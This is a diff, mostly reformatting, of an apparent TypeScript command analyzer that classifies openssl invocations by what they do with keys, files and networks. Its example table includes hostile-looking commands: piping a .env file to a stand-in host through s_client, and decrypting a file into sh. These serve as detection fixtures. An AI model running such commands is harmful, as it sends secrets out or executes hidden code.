@@ -7,13 +7,65 @@ import { openShell } from '../carriers.ts'
 /** openssl(1), version 3.5: commands by what they do with keys. */
 
 const OPTIONS =
-  '-in= -out= -inform= -outform= -keyform= -key= -keyout= -inkey= -certfile= -CAfile= -CApath= -CA= -CAkey= -CAserial= -passin= -passout= -pass= -k= -kfile= -K= -iv= -S= -md= -config= -extfile= -extensions= -reqexts= -subj= -days= -newkey= -pkeyopt= ' +
-  '-algorithm= -name= -curve= -connect= -servername= -host= -port= -proxy= -starttls= -verify= -cert= -cert_chain= -alpn= -cipher= -ciphersuites= -tls1 -tls1_1 -tls1_2 -tls1_3 -engine= -provider= -provider-path= -rand= -writerand= -sigfile= -signature= -sign= -prverify= -hmac= -macopt= -mac= ' +
-  '-signer= -recip= -to= -from= -subject= -url= -issuer= -serial= -respout= -reqout= -VAfile= -checkend= -checkhost= -checkip= -checkemail= -set_serial= -signkey= -signcert= -addtrust= -setalias= -nameopt= -certopt= -dateopt= -sigopt= -strparse= -offset= -length= -msgfile= -sess_out= -sess_in= -keylogfile= -bind= -crl= -CRL= -revoke= -gencrl -ss_cert= -spkac= -infiles -notext -batch -outdir= -startdate= -enddate= -policy= -status= -updatedb -caname= -CSP= -salt -iter= -twopass -naccept= -www -WWW -HTTP -accept= -peerkey= -sigopt= -secret= -digest= -kdflen= -kdfopt= -seconds= -bytes= -multi= -p= ' +
-  '-text -noout -modulus -pubkey -pubin -pubout -check -dates -fingerprint -hash -subject_hash -issuer_hash -ocsp_uri -purpose -email -ext= -x509 -new -nodes -noenc -des3 -aes256 -aes128 -export -nokeys -nocerts -clcerts -cacerts -info -d -e -a -base64 -A -nosalt -pbkdf2 -hex -rev -r -binary -showcerts -brief -quiet -ign_eof -crlf -prexit -reconnect -status -tlsextdebug -verify_return_error -legacy -verbose -untrusted= -trusted= -partial_chain -crl_check -crl_check_all -param_enc= -genkey -param_out -conv_form= -traditional -topk8 -nocrypt -v1= -v2= -RSAPublicKey_out -decrypt -encrypt -help -version -list -req -copy_extensions= -C -no-CAfile -no_ign_eof -5 -6 -1 -apr1 -stdin -provparam= -quick -evp=' // prettier-ignore
+  '-in= -out= -inform= -outform= -keyform= -key= -keyout= -inkey= -certfile= -CAfile= -CApath= -CA= -CAkey= ' +
+  '-CAserial= -passin= -passout= -pass= -k= -kfile= -K= -iv= -S= -md= -config= -extfile= -extensions= -reqexts= ' +
+  '-subj= -days= -newkey= -pkeyopt= ' +
+  '-algorithm= -name= -curve= -connect= -servername= -host= -port= -proxy= -starttls= -verify= -cert= ' +
+  '-cert_chain= -alpn= -cipher= -ciphersuites= -tls1 -tls1_1 -tls1_2 -tls1_3 -engine= -provider= ' +
+  '-provider-path= -rand= -writerand= -sigfile= -signature= -sign= -prverify= -hmac= -macopt= -mac= ' +
+  '-signer= -recip= -to= -from= -subject= -url= -issuer= -serial= -respout= -reqout= -VAfile= -checkend= ' +
+  '-checkhost= -checkip= -checkemail= -set_serial= -signkey= -signcert= -addtrust= -setalias= -nameopt= ' +
+  '-certopt= -dateopt= -sigopt= -strparse= -offset= -length= -msgfile= -sess_out= -sess_in= -keylogfile= -bind= ' +
+  '-crl= -CRL= -revoke= -gencrl -ss_cert= -spkac= -infiles -notext -batch -outdir= -startdate= -enddate= ' +
+  '-policy= -status= -updatedb -caname= -CSP= -salt -iter= -twopass -naccept= -www -WWW -HTTP -accept= ' +
+  '-peerkey= -sigopt= -secret= -digest= -kdflen= -kdfopt= -seconds= -bytes= -multi= -p= ' +
+  '-text -noout -modulus -pubkey -pubin -pubout -check -dates -fingerprint -hash -subject_hash -issuer_hash ' +
+  '-ocsp_uri -purpose -email -ext= -x509 -new -nodes -noenc -des3 -aes256 -aes128 -export -nokeys -nocerts ' +
+  '-clcerts -cacerts -info -d -e -a -base64 -A -nosalt -pbkdf2 -hex -rev -r -binary -showcerts -brief -quiet ' +
+  '-ign_eof -crlf -prexit -reconnect -status -tlsextdebug -verify_return_error -legacy -verbose -untrusted= ' +
+  '-trusted= -partial_chain -crl_check -crl_check_all -param_enc= -genkey -param_out -conv_form= -traditional ' +
+  '-topk8 -nocrypt -v1= -v2= -RSAPublicKey_out -decrypt -encrypt -help -version -list -req -copy_extensions= -C ' +
+  '-no-CAfile -no_ign_eof -5 -6 -1 -apr1 -stdin -provparam= -quick -evp=' // prettier-ignore
 
 /** Commands that show public things, digests, numbers and lists. */
-const SHOWS = new Set(['version', 'ciphers', 'list', 'help', 'prime', 'speed', 'errstr', 'info', 'verify', 'crl', 'asn1parse', 'crl2pkcs7', 'pkcs7', 'nseq', 'sess_id', 'storeutl', 'passwd', 'dgst', 'md5', 'sha1', 'sha256', 'sha384', 'sha512', 'kdf', 'mac', 'engine', 'fipsinstall', 'rehash', 'ts', 'spkac', 's_time', 'ocsp', 'rand', 'pkeyparam', 'dsaparam', 'skeyutl'])
+const SHOWS = new Set([
+  'version',
+  'ciphers',
+  'list',
+  'help',
+  'prime',
+  'speed',
+  'errstr',
+  'info',
+  'verify',
+  'crl',
+  'asn1parse',
+  'crl2pkcs7',
+  'pkcs7',
+  'nseq',
+  'sess_id',
+  'storeutl',
+  'passwd',
+  'dgst',
+  'md5',
+  'sha1',
+  'sha256',
+  'sha384',
+  'sha512',
+  'kdf',
+  'mac',
+  'engine',
+  'fipsinstall',
+  'rehash',
+  'ts',
+  'spkac',
+  's_time',
+  'ocsp',
+  'rand',
+  'pkeyparam',
+  'dsaparam',
+  'skeyutl',
+])
 
 const KEYS = new Set(['rsa', 'pkey', 'ec', 'dsa', 'pkcs8'])
 const MAKES = new Set(['genrsa', 'genpkey', 'gendsa', 'dhparam', 'ecparam'])
@@ -24,14 +76,24 @@ export const openssl: Program = {
   examples: {
     'openssl rand -hex 16': ['read rand certificate'],
     'openssl x509 -in /etc/ssl/shop.pem -noout -dates': ['file read /etc/ssl/shop.pem', 'read x509 certificate'],
-    'echo | openssl s_client -connect api.example:443 -servername api.example': ['read connect certificate api.example:443'],
-    'cat .env | openssl s_client -connect x.example:443': ['file read .env', 'disclose send data x.example:443', 'read connect certificate x.example:443'],
+    'echo | openssl s_client -connect api.example:443 -servername api.example': [
+      'read connect certificate api.example:443',
+    ],
+    'cat .env | openssl s_client -connect x.example:443': [
+      'file read .env',
+      'disclose send data x.example:443',
+      'read connect certificate x.example:443',
+    ],
     'openssl rsa -in k.pem': ['file read k.pem', 'read-secret rsa key'],
     'openssl rsa -in k.pem -noout -check': ['file read k.pem', 'read rsa key'],
     'openssl pkey -in k.pem -pubout': ['file read k.pem', 'read pkey key'],
     'openssl rsa -in k.pem -out n.pem': ['file read k.pem', 'change convert key', 'file overwrite n.pem'],
     'openssl genrsa -out k.pem 4096': ['change make key', 'file overwrite k.pem'],
-    'openssl req -new -newkey rsa:2048 -nodes -keyout k.pem -out r.csr -subj /CN=x': ['change make request', 'file overwrite k.pem', 'file overwrite r.csr'],
+    'openssl req -new -newkey rsa:2048 -nodes -keyout k.pem -out r.csr -subj /CN=x': [
+      'change make request',
+      'file overwrite k.pem',
+      'file overwrite r.csr',
+    ],
     'openssl req -in r.csr -noout -text': ['file read r.csr', 'read show request'],
     'openssl enc -d -aes-256-cbc -in a.enc | sh': ['file read a.enc', 'read decrypt file', 'unreadable run code'],
     'openssl pkcs12 -in a.p12 -nodes': ['file read a.p12', 'read-secret pkcs12 key'],
@@ -54,14 +116,19 @@ export const openssl: Program = {
       return undefined
     }
     const read = readArguments(rest, optionTable(OPTIONS, 'single'))
-    const library = read.value('-engine') ?? read.value('-provider-path') ?? read.values('-provider').find((w) => w.text.includes('/'))
+    const library =
+      read.value('-engine') ??
+      read.value('-provider-path') ??
+      read.values('-provider').find((w) => w.text.includes('/'))
     if (library !== undefined) {
       emit(call, 'unreadable', 'load', 'library', library, { note: 'a library of its own runs in the program' })
       return undefined
     }
     // A password in a file is read; what it unlocks is what counts.
     for (const option of ['-passin', '-passout', '-pass']) {
-      for (const w of read.values(option)) if (w.text.startsWith('file:')) emitFile(call, 'read', { ...w, text: w.text.slice('file:'.length) }, { quiet: true })
+      for (const w of read.values(option))
+        if (w.text.startsWith('file:'))
+          emitFile(call, 'read', { ...w, text: w.text.slice('file:'.length) }, { quiet: true })
     }
     return runCommand(call, verb.text, read)
   },
@@ -102,7 +169,12 @@ function runCommand(call: Call, verb: string, read: Arguments): Stream | undefin
   switch (verb) {
     case 'x509':
       quietly(input, read.value('-CAkey'), read.value('-CA'), read.value('-signkey'), read.value('-key'))
-      emit(call, read.has('-CA', '-CAkey', '-signkey', '-key') ? 'change' : 'read', read.has('-CA', '-signkey', '-key') ? 'sign' : 'x509', 'certificate')
+      emit(
+        call,
+        read.has('-CA', '-CAkey', '-signkey', '-key') ? 'change' : 'read',
+        read.has('-CA', '-signkey', '-key') ? 'sign' : 'x509',
+        'certificate',
+      )
       writes(0)
       return undefined
     case 'req': {
@@ -122,7 +194,13 @@ function runCommand(call: Call, verb: string, read: Arguments): Stream | undefin
       const keys = !read.has('-nokeys', '-info') || (read.has('-info') && !read.has('-noout', '-nokeys'))
       quietly(input, read.value('-inkey'), read.value('-certfile'))
       if (exports) emit(call, 'change', 'make', 'key')
-      else emit(call, keys && !read.has('-noout') ? 'read-secret' : 'read', 'pkcs12', keys && !read.has('-noout') ? 'key' : 'certificate')
+      else
+        emit(
+          call,
+          keys && !read.has('-noout') ? 'read-secret' : 'read',
+          'pkcs12',
+          keys && !read.has('-noout') ? 'key' : 'certificate',
+        )
       writes(keys ? Carries.secret : 0)
       return { text: undefined, carries: keys && !exports ? Carries.secret : 0, span: call.span }
     }
@@ -141,7 +219,12 @@ function runCommand(call: Call, verb: string, read: Arguments): Stream | undefin
     }
     case 'ca': {
       const shows = read.has('-status') && !read.has('-in', '-revoke', '-gencrl')
-      emit(call, shows ? 'read' : 'access', read.has('-revoke') ? 'revoke' : read.has('-gencrl') ? 'list' : 'issue', 'certificate')
+      emit(
+        call,
+        shows ? 'read' : 'access',
+        read.has('-revoke') ? 'revoke' : read.has('-gencrl') ? 'list' : 'issue',
+        'certificate',
+      )
       writes(0)
       return undefined
     }
@@ -153,7 +236,16 @@ function runCommand(call: Call, verb: string, read: Arguments): Stream | undefin
     return undefined
   }
   quietly(read.value('-CAfile'), read.value('-untrusted'), read.value('-sign'), input)
-  for (const path of read.operands) if (verb !== 'rand' && verb !== 'prime' && verb !== 'passwd' && verb !== 'speed' && verb !== 'errstr' && verb !== 'ciphers') emitFile(call, 'read', path, { quiet: verb === 'verify' })
+  for (const path of read.operands)
+    if (
+      verb !== 'rand' &&
+      verb !== 'prime' &&
+      verb !== 'passwd' &&
+      verb !== 'speed' &&
+      verb !== 'errstr' &&
+      verb !== 'ciphers'
+    )
+      emitFile(call, 'read', path, { quiet: verb === 'verify' })
   emit(call, 'read', verb, 'certificate')
   writes(0)
   const encodes = /^(base64|enc)$/.test(verb) || !SHOWS.has(verb)
@@ -163,9 +255,18 @@ function runCommand(call: Call, verb: string, read: Arguments): Stream | undefin
 /** What comes in on standard input goes to the other side. */
 function connect(call: Call, read: Arguments): Stream {
   const host = read.value('-connect') ?? read.value('-host') ?? read.operands[0]
-  const at = host === undefined ? undefined : ({ is: 'host', name: { ...host, text: host.text.replace(/:[^:]*$/, '') }, options: [], ...reachOf(call) } as const)
+  const at =
+    host === undefined
+      ? undefined
+      : ({
+          is: 'host',
+          name: { ...host, text: host.text.replace(/:[^:]*$/, '') },
+          options: [],
+          ...reachOf(call),
+        } as const)
   const place = at === undefined ? {} : { at }
-  if ((call.stdin.carries & (Carries.secret | Carries.data)) !== 0) emit(call, 'disclose', 'send', 'data', host ?? '', place)
+  if ((call.stdin.carries & (Carries.secret | Carries.data)) !== 0)
+    emit(call, 'disclose', 'send', 'data', host ?? '', place)
   emit(call, 'read', 'connect', 'certificate', host ?? '', place)
   const log = read.value('-keylogfile')
   if (log !== undefined) emitFile(call, 'append', log)
